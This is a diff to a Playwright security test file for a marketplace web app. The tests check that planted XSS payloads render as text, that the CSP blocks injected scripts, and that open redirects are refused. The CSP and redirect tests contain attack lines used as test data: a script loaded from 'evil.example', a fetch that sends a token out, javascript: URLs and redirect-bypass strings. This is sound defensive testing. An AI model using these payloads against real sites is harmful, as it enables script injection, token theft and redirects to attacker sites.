@@ -20,186 +20,195 @@ import {
 } from './support/xss-fixtures.ts';
 import { restoreSession, loginDemoAdmin, createFoodie, uniqueSuffix } from './support/fixtures.ts';
 
-/** Once: what a browser makes of a text does not depend on the width of its window. */
+// Every test runs on desktop only, because text handling does not depend on the viewport width.
 test.describe.configure({ mode: 'parallel' });
 
-/** Elements and attributes that no screen of ours has: React attaches what happens, it does not write it down. */
-const foreign =
+/** Elements and attributes that the app never renders. React attaches event handlers without attributes. */
+const foreignElements =
   '#planted, [onload], [onerror], [src*=planted], iframe, base, [href^="javascript:" i], style, svg:not(:has(*))';
 
-/** A document without inline scripts, styles and handlers; what stands in quotes is text. */
-const inline = /<script(?![^>]*\ssrc=)|<style|<[a-z][^>]*\s(?:style|on[a-z]+)=/i;
+/** Inline scripts, styles and event handlers in a document whose quoted texts are removed. */
+const inlineCode = /<script(?![^>]*\ssrc=)|<style|<[a-z][^>]*\s(?:style|on[a-z]+)=/i;
 
-async function goThere(page: Page, path: string) {
+async function openPage(page: Page, path: string) {
   const reply = await page.goto(path);
   const html = (await reply?.text()) ?? '';
-  expect(html.replace(/"[^"]*"/g, '""'), path).not.toMatch(inline);
+  expect(html.replace(/"[^"]*"/g, '""'), path).not.toMatch(inlineCode);
   await waitUntilLoaded(page);
 }
 
-/** Everything that stands on the page as text, in its fields and in its title. */
-const textOf = (page: Page) =>
+/** Returns the text of the page, its inputs and its title. */
+const getPageText = (page: Page) =>
   page.evaluate(() => {
-    const typed = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
+    const inputValues = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
       ({ value }) => value,
     );
-    return [document.title, document.body.textContent, ...typed].join('\n');
+    return [document.title, document.body.textContent, ...inputValues].join('\n');
   });
 
-/** Writes a script into every field of the page that takes text, and sends the form of the last one. */
-async function plantByHand(page: Page) {
-  const texts = page
+/** Fills a script into every text field of the page and submits the last form. */
+async function submitXssText(page: Page) {
+  const textFields = page
     .getByRole('main')
     .locator('input:not([type=checkbox], [type=radio], [type=file], [type=number], [readonly]), textarea');
-  const fields = (await texts.all()).reverse();
+  const fields = (await textFields.all()).reverse();
   for (const field of fields) if (await field.isVisible()) await field.fill(xssPayloads.all('by-hand'));
   const form = page.getByRole('main').locator('form').last();
-  const send = form.locator('button[type=submit]:enabled');
-  if (fields.length > 0 && (await send.count()) === 1 && (await send.isVisible())) await send.click();
+  const submitButton = form.locator('button[type=submit]:enabled');
+  if (fields.length > 0 && (await submitButton.count()) === 1 && (await submitButton.isVisible()))
+    await submitButton.click();
   await waitUntilLoaded(page);
 }
 
-/** Walks these screens; gives all the text that was seen. Nothing planted may run or become an element. */
-async function walk(page: Page, visits: readonly ScreenVisit[]): Promise<string> {
+/** Opens all screens and returns their text. Expects that no planted script runs or becomes an element. */
+async function visitScreens(page: Page, visits: readonly ScreenVisit[]): Promise<string> {
   test.setTimeout(180_000);
-  const heard = await recordXssSignals(page);
-  const seen: string[] = [];
+  const signals = await recordXssSignals(page);
+  const texts: string[] = [];
   for (const { name, path, act } of visits) {
     await test.step(name, async () => {
-      await goThere(page, path);
+      await openPage(page, path);
       await act?.(page);
-      seen.push(await textOf(page));
-      await expect(page.locator(foreign), name).toHaveCount(0);
-      await plantByHand(page);
-      await expect(page.locator(foreign), `${name}, by hand`).toHaveCount(0);
+      texts.push(await getPageText(page));
+      await expect(page.locator(foreignElements), name).toHaveCount(0);
+      await submitXssText(page);
+      await expect(page.locator(foreignElements), `${name}, by hand`).toHaveCount(0);
     });
   }
-  expect(heard.of).toEqual([]);
-  return seen.join('\n');
+  expect(signals).toEqual([]);
+  return texts.join('\n');
 }
 
-function expectSeen(seen: string, texts: object) {
-  const missing = Object.entries(texts).filter(([, text]) => !seen.includes(String(text)));
+function expectShown(shownText: string, texts: object) {
+  const missing = Object.entries(texts).filter(([, text]) => !shownText.includes(String(text)));
   expect(missing).toEqual([]);
 }
 
-const hostile = encodeURIComponent(xssPayloads.all('address'));
-/** As a part of a path: with a dot it would be a file's. */
-const hostilePart = encodeURIComponent(xssPayloads.line('address'));
+const hostileValue = encodeURIComponent(xssPayloads.all('address'));
+/** Value for a path segment. It contains no dot, because the server treats paths with a dot as files. */
+const hostileSegment = encodeURIComponent(xssPayloads.line('address'));
 
-test('a script planted anywhere is text to a visitor', { tag: '@desk' }, async ({ page }) => {
+test('shows planted scripts as text to a visitor', { tag: '@desk' }, async ({ page }) => {
   const { texts, chef, tacos, guestOrder } = await createXssMarket();
   const visits = visitorScreens({ chef, tacos, order: guestOrder });
-  const seen = await walk(page, [
+  const shownText = await visitScreens(page, [
     ...visits,
     { name: 'market-searched', path: `/mainpage?name=${encodeURIComponent(texts.search)}` },
     {
       name: 'market-hostile',
-      path: `/mainpage?category=${hostile}&minPrice=${hostile}&sort=${hostile}&page=${hostile}`,
+      path: `/mainpage?category=${hostileValue}&minPrice=${hostileValue}&sort=${hostileValue}&page=${hostileValue}`,
     },
-    { name: 'product-hostile', path: `/mainpage/product/${hostilePart}` },
-    { name: 'chef-hostile', path: `/chefitems/${hostilePart}` },
-    { name: 'cart-hostile', path: `/cart/${hostilePart}?qty=${hostile}` },
-    { name: 'order-hostile', path: `/order/guest/${hostilePart}` },
-    { name: 'login-hostile', path: `/login?redirect=${hostile}` },
-    { name: 'not-found-hostile', path: `/no/${hostilePart}?${hostile}#${hostile}` },
+    { name: 'product-hostile', path: `/mainpage/product/${hostileSegment}` },
+    { name: 'chef-hostile', path: `/chefitems/${hostileSegment}` },
+    { name: 'cart-hostile', path: `/cart/${hostileSegment}?qty=${hostileValue}` },
+    { name: 'order-hostile', path: `/order/guest/${hostileSegment}` },
+    { name: 'login-hostile', path: `/login?redirect=${hostileValue}` },
+    { name: 'not-found-hostile', path: `/no/${hostileSegment}?${hostileValue}#${hostileValue}` },
   ]);
-  const { permit: _own, shippingAddress, ...rest } = texts;
-  expectSeen(seen, { ...rest, ...shippingAddress });
+  const { permit: _permit, shippingAddress, ...rest } = texts;
+  expectShown(shownText, { ...rest, ...shippingAddress });
 });
 
-test('a script planted anywhere is text to a foodie', { tag: '@desk' }, async ({ page }) => {
+test('shows planted scripts as text to a foodie', { tag: '@desk' }, async ({ page }) => {
   const { texts, foodie, tacos, order } = await createXssMarket();
   await restoreSession(page, foodie);
   await page.evaluate(
     (address) => localStorage.setItem('shippingAddress', JSON.stringify(address)),
     texts.shippingAddress,
   );
-  const seen = await walk(page, [
+  const shownText = await visitScreens(page, [
     ...foodieScreens({ cake: tacos, order }),
-    { name: 'cheflist-hostile', path: `/cheflist?zip=${hostile}` },
-    { name: 'profile-hostile', path: `/profile?q=${hostile}&page=${hostile}` },
+    { name: 'cheflist-hostile', path: `/cheflist?zip=${hostileValue}` },
+    { name: 'profile-hostile', path: `/profile?q=${hostileValue}&page=${hostileValue}` },
   ]);
-  const { foodieName, dish, description, comment, chefName, street, shippingAddress } = texts;
-  expectSeen(seen, { foodieName, dish, description, comment, chefName, street, ...shippingAddress });
+  const { foodieName, productName, description, comment, chefName, street, shippingAddress } = texts;
+  expectShown(shownText, {
+    foodieName,
+    productName,
+    description,
+    comment,
+    chefName,
+    street,
+    ...shippingAddress,
+  });
 });
 
-test('a script planted anywhere is text to a chef', { tag: '@desk' }, async ({ page }) => {
+test('shows planted scripts as text to a chef', { tag: '@desk' }, async ({ page }) => {
   const { texts, chef, tacos, order } = await createXssMarket();
   await restoreSession(page, chef);
-  const seen = await walk(page, [
+  const shownText = await visitScreens(page, [
     { name: 'chef-product-picture', path: `/chef/product/${tacos._id}/edit`, act: choosePicture },
     ...chefScreens({ chef, tacos, order }),
-    { name: 'chef-orders-hostile', path: `/cheforders?q=${hostile}&sort=${hostile}` },
-    { name: 'chef-products-hostile', path: `/chef/productlist?q=${hostile}` },
+    { name: 'chef-orders-hostile', path: `/cheforders?q=${hostileValue}&sort=${hostileValue}` },
+    { name: 'chef-products-hostile', path: `/chef/productlist?q=${hostileValue}` },
   ]);
-  const { chefName, permit, street, city, dish, description, foodieName, guestName } = texts;
-  expectSeen(seen, { chefName, permit, street, city, dish, description, foodieName, guestName });
+  const { chefName, permit, street, city, productName, description, foodieName, guestName } = texts;
+  expectShown(shownText, { chefName, permit, street, city, productName, description, foodieName, guestName });
 });
 
-test('a script planted anywhere is text to an admin', { tag: '@desk' }, async ({ page }) => {
+test('shows planted scripts as text to an admin', { tag: '@desk' }, async ({ page }) => {
   const { texts, chef, foodie, tacos, order } = await createXssMarket();
   await restoreSession(page, await loginDemoAdmin());
-  const found = (list: string, text: string) => `/admin/${list}?q=${encodeURIComponent(text)}`;
-  const seen = await walk(page, [
-    { name: 'admin-user-searched', path: found('userlist', texts.foodieName) },
-    { name: 'admin-product-searched', path: found('productlist', texts.dish) },
-    { name: 'admin-order-searched', path: found('orderlist', texts.guestName) },
+  const buildSearchPath = (list: string, text: string) => `/admin/${list}?q=${encodeURIComponent(text)}`;
+  const shownText = await visitScreens(page, [
+    { name: 'admin-user-searched', path: buildSearchPath('userlist', texts.foodieName) },
+    { name: 'admin-product-searched', path: buildSearchPath('productlist', texts.productName) },
+    { name: 'admin-order-searched', path: buildSearchPath('orderlist', texts.guestName) },
     { name: 'admin-order', path: `/order/${order._id}` },
     { name: 'admin-foodie-edit', path: `/admin/user/${foodie._id}/edit` },
     ...adminScreens({ chef, tacos }),
-    { name: 'admin-users-hostile', path: `/admin/userlist?q=${hostile}&page=${hostile}` },
+    { name: 'admin-users-hostile', path: `/admin/userlist?q=${hostileValue}&page=${hostileValue}` },
   ]);
-  const { chefName, foodieName, permit, dish, description, guestName } = texts;
-  expectSeen(seen, { chefName, foodieName, permit, dish, description, guestName });
+  const { chefName, foodieName, permit, productName, description, guestName } = texts;
+  expectShown(shownText, { chefName, foodieName, permit, productName, description, guestName });
 });
 
-/** A picture with a script for a name. */
+/** Selects a picture with a script as file name. */
 async function choosePicture(page: Page) {
   const buffer = await readFile(join(import.meta.dirname, 'files', 'elote.jpg'));
-  const uploaded = page.waitForResponse('**/api/upload');
+  const uploadResponse = page.waitForResponse('**/api/upload');
   await page
     .locator('input[type=file]')
     .setInputFiles({ name: `${xssPayloads.tiny()}.jpg`, mimeType: 'image/jpeg', buffer });
-  expect(await (await uploaded).text()).toMatch(/^\/uploads\/[0-9a-f]+_[0-9a-f]+\.webp$/);
+  expect(await (await uploadResponse).text()).toMatch(/^\/uploads\/[0-9a-f]+_[0-9a-f]+\.webp$/);
 }
 
-test('every page of the contract is among the screens that are walked', { tag: '@desk' }, () => {
+test('visited screens include every page of the contract', { tag: '@desk' }, () => {
   const id = 'a'.repeat(24);
   const [chef, tacos, cake, order] = [{ _id: id }, { _id: id }, { _id: id }, { _id: id }] as never[];
-  const given = { chef, tacos, cake, order } as never;
+  const data = { chef, tacos, cake, order } as never;
   const paths = [visitorScreens, foodieScreens, chefScreens, adminScreens]
-    .flatMap((screensOf) => screensOf(given))
+    .flatMap((listScreens) => listScreens(data))
     .map(({ path }) => path.split('?')[0] ?? '');
   expect(allPagePaths.filter((pattern) => !paths.some((path) => matchPagePath(pattern, path)))).toEqual([]);
 });
 
-test('fields that are no free text refuse a script, and name themselves', { tag: '@desk' }, async () => {
+test('rejects scripts in all fields without free text', { tag: '@desk' }, async () => {
   const { chef, cake } = await createXssMarket();
   const api = await request.newContext({ baseURL: process.env.E2E_URL });
   const headers = { Authorization: `Bearer ${chef.token}` };
-  const fieldsOf = async (reply: Awaited<ReturnType<typeof api.post>>) => {
+  const readRejection = async (reply: Awaited<ReturnType<typeof api.post>>) => {
     const { errors = [] } = (await reply.json()) as { errors?: { path: string }[] };
     return [reply.status(), [...new Set(errors.map(({ path }) => path))]];
   };
   for (const [path, data, field] of rejectedRequests(cake._id))
-    expect(await fieldsOf(await api.post(`/api${path}`, { data })), `${path} ${field}`).toEqual([
+    expect(await readRejection(await api.post(`/api${path}`, { data })), `${path} ${field}`).toEqual([
       400,
       [field],
     ]);
   for (const [changes, field] of rejectedProductFields) {
     const reply = await api.put(`/api/products/${cake._id}`, { headers, data: { ...cake, ...changes } });
-    expect(await fieldsOf(reply), field).toEqual([400, [field]]);
+    expect(await readRejection(reply), field).toEqual([400, [field]]);
   }
   await api.dispose();
 });
 
-test('what comes past React all the same is stopped by the policy', { tag: '@desk' }, async ({ page }) => {
-  const heard = await recordXssSignals(page);
+test('content security policy blocks scripts that bypass React', { tag: '@desk' }, async ({ page }) => {
+  const signals = await recordXssSignals(page);
   await page.goto('/mainpage');
-  const tried = await page.evaluate(async (all) => {
+  const attemptCount = await page.evaluate(async (payload) => {
     const attempts = {
-      markup: () => document.body.insertAdjacentHTML('beforeend', all),
+      markup: () => document.body.insertAdjacentHTML('beforeend', payload),
       handler: () => {
         const picture = document.createElement('img');
         picture.setAttribute('onerror', 'planted()');
@@ -211,7 +220,7 @@ test('what comes past React all the same is stopped by the policy', { tag: '@des
         script.textContent = 'planted()';
         document.body.append(script);
       },
-      elsewhere: () => {
+      externalScript: () => {
         const script = document.createElement('script');
         script.src = 'http://evil.example/x.js';
         document.body.append(script);
@@ -221,28 +230,28 @@ test('what comes past React all the same is stopped by the policy', { tag: '@des
         style.textContent = 'body { display: none }';
         document.body.append(style);
       },
-      address: () => window.location.assign('javascript:planted()'),
-      sent: () => void fetch('http://evil.example/?token').catch(() => undefined),
+      navigation: () => window.location.assign('javascript:planted()'),
+      request: () => void fetch('http://evil.example/?token').catch(() => undefined),
     };
     for (const attempt of Object.values(attempts)) {
       try {
         attempt();
       } catch {
-        // Refused at once; what is refused later is heard of.
+        // Some attempts throw. Others fail later and are reported as violations.
       }
     }
     await new Promise((resolve) => requestAnimationFrame(resolve));
     return Object.keys(attempts).length;
   }, xssPayloads.all('past'));
-  await expect.poll(() => heard.of.length).toBeGreaterThanOrEqual(tried);
-  expect(heard.of.filter((words) => /ran|dialog|asked/.test(words))).toEqual([]);
+  await expect.poll(() => signals.length).toBeGreaterThanOrEqual(attemptCount);
+  expect(signals.filter((signal) => /ran|dialog|requested/.test(signal))).toEqual([]);
   await expect(page.getByRole('main')).toBeVisible();
 });
 
-test('nobody is led away from this site after signing in', { tag: '@desk' }, async ({ page }) => {
+test('does not redirect to other sites after sign-in', { tag: '@desk' }, async ({ page }) => {
   await restoreSession(page, await createFoodie(createXssTexts(uniqueSuffix()).foodieName));
-  const heard = await recordXssSignals(page);
-  for (const away of [
+  const signals = await recordXssSignals(page);
+  for (const target of [
     '//evil.example',
     '/\\evil.example',
     '/.//evil.example',
@@ -252,10 +261,10 @@ test('nobody is led away from this site after signing in', { tag: '@desk' }, asy
     'javascript:planted()',
     '%2F%2Fevil.example',
   ]) {
-    await page.goto(`/login?redirect=${encodeURIComponent(away)}`);
-    await expect(page, away).toHaveURL('/');
+    await page.goto(`/login?redirect=${encodeURIComponent(target)}`);
+    await expect(page, target).toHaveURL('/');
   }
   await page.goto(`/login?redirect=${encodeURIComponent('/%2F/evil.example')}`);
   await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible();
-  expect(heard.of).toEqual([]);
+  expect(signals).toEqual([]);
 });
